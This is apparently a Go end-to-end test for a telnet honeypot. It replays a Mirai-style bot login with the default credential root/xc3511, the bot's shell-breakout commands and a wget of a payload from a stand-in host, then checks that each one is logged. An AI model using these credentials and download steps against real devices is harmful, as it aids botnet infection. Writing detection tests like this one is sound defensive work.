package e2e

import (
	"strings"
	"testing"
	"time"
)

// TestServicesTelnetMirai: a scripted Mirai-style bot logs in to a
// BusyBox-profiled host (--telnet-accept-after 1), breaks out with enable,
// system, shell, sh, checks /bin/busybox ECCHI and tries a wget: the
// events hold the credential, each command line and the URL. The real
// telnet client logs in too and runs uname.
func TestServicesTelnetMirai(t *testing.T) {
	t.Parallel()
	Require(t, "python3", "telnet")
	l := NewLab(t, LabOptions{NoClientIPv6: true})
	l.Start("--telnet-accept-after", "1", "--profile", writeProfile(t, l, `tcp = "all"
[host.banners]
telnet = "BusyBox v1.31.1"
hostname = "dvr"
`))
	out, err := l.InClient(40*time.Second, "python3", "scripts/mirai_telnet.py", RespIP4, "23", "root", "xc3511", "http://203.0.113.66/mirai.sh")
	if err != nil {
		t.Fatalf("mirai_telnet.py: %v\n%s", err, out)
	}
	for _, want := range []string{"dvr login: ", "built-in shell (ash)", "-sh: enable: not found", "ECCHI: applet not found", "wget: can't connect"} {
		if !strings.Contains(out, want) {
			t.Errorf("the bot's transcript lacks %q:\n%s", want, out)
		}
	}
	// the real client: telnet fed by a slow pipe
	out, _ = l.InClient(40*time.Second, "sh", "-c", "(sleep 2; printf 'admin\\r\\n'; sleep 1; printf 'admin\\r\\n'; sleep 1; "+
		"printf 'uname -a\\r\\n'; sleep 1; printf 'exit\\r\\n'; sleep 2) | telnet "+RespIP4+" 23")
	if !strings.Contains(out, "dvr login:") || !strings.Contains(out, "Linux dvr 3.10.14") {
		t.Errorf("telnet client:\n%s", out)
	}
	recs := appEvents(t, l, "telnet")
	var cred, url bool
	cmds := map[string]bool{}
	for _, a := range recs {
		if auth, ok := a["auth"].(map[string]any); ok && auth["protocol"] == "telnet" && auth["user"] == "root" &&
			auth["password"] == "xc3511" && auth["success"] == true {
			cred = true
		}
		if c := str(a["command"]); c != "" {
			cmds[c] = true
		}
		if strings.Contains(str(a["urls"]), "http://203.0.113.66/mirai.sh") {
			url = true
		}
	}
	for _, c := range []string{"enable", "system", "shell", "sh", "/bin/busybox ECCHI", "uname -a"} {
		if !cmds[c] {
			t.Errorf("command %q not recorded (recorded: %v)", c, cmds)
		}
	}
	if !cred || !url {
		t.Errorf("credential recorded %v, URL recorded %v: %v", cred, url, recs)
	}
}
